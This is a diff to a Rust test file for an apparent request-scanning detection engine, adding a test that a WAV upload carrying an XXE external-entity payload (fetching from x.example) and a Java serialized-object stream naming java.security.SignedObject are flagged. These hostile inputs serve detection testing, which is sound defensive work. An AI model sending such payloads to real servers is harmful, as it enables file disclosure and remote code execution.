@@ -6,13 +6,13 @@ use crate::exchange::head::Head;
 use crate::read::{self, Body};
 
 /// The points of a request with this body, taken alone, as `rule severity`.
-fn found(content_type: &str, body: &str) -> Vec<String> {
+fn found(content_type: &str, body: impl AsRef<[u8]>) -> Vec<String> {
     let rules = RuleSet::builtin();
     let head = Head::new([(":method", "POST"), (":path", "/"), ("content-type", content_type)].into_iter().collect());
     let mut scan = Scan::new();
     read::head(&head, &mut |field| scan.push(&rules, field));
     let mut reader = Body::new(&head, 128 * 1024);
-    reader.push(body.as_bytes(), &mut |field| scan.push(&rules, field));
+    reader.push(body.as_ref(), &mut |field| scan.push(&rules, field));
     reader.finish(&mut |field| scan.push(&rules, field));
     let line = |one: &crate::detect::detection::Detection| format!("{} {:?}", rules.rule(one.rule).id, one.severity);
     scan.take().iter().map(line).collect()
@@ -85,4 +85,24 @@ fn very_many_operations_of_graphql_are_odd() {
         |count: usize| format!("[{}]", vec![r#"{"query":"mutation { login(pin: 1) { ok } }"}"#; count].join(","));
     let is_batch = |count: usize| found(JSON, &batch(count)).iter().any(|line| line == "graphql.batch Low");
     assert!(!is_batch(10) && is_batch(20));
+}
+
+#[test]
+fn what_bytes_that_are_no_text_carry_along_is_found() {
+    let head = b"RIFF\xb8\0\0\0WAVEiXML\x7b\0\0\0";
+    let sound =
+        [&head[..], b"<?xml version=\"1.0\"?><!DOCTYPE a[<!ENTITY % b SYSTEM 'http://x.example/c'>%b;]>\0\0"].concat();
+    let part = |kind: &str, content: &[u8]| {
+        let head =
+            format!("--b\r\ncontent-disposition: form-data; name=f; filename=a.bin\r\ncontent-type: {kind}\r\n\r\n");
+        [head.as_bytes(), content, b"\r\n--b--\r\n"].concat()
+    };
+    let stream = [&[b'='; 95][..], b"\xac\xed\0\x05sr\0\x1ajava.security.SignedObject"].concat();
+    for (kind, body, rule) in [
+        ("multipart/form-data; boundary=b", part("audio/wave", &sound), "xxe."),
+        ("application/octet-stream", stream, "code-injection.java-object"),
+    ] {
+        let lines = found(kind, &body);
+        assert!(lines.iter().any(|line| line.starts_with(rule)), "{rule}: {lines:?}");
+    }
 }
